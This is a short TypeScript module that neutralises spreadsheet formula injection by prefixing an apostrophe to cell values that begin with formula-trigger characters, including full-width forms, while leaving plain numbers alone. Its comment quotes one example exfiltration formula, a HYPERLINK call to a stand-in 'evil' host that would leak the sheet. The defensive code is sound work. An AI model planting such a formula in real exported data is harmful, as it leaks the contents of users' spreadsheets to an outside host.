/**
 * Spreadsheet programs run a cell that starts with = + - @ (and, in some, tab, CR, LF or the
 * full-width forms Chinese input methods type) as a formula: a customer named
 * `=HYPERLINK("http://evil/?"&A1)` would leak the sheet. Such text gets a leading apostrophe,
 * which Excel and WPS show as text. A plain number ("-12.5", "+8613812345678") is left alone:
 * it runs nothing, and a phone number must stay as typed.
 */
const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

export function guardFormula(value: string): string {
  if (value.length === 0 || !TRIGGERS.has(value[0]!)) return value;
  return PLAIN_NUMBER.test(value) ? value : `'${value}`;
}
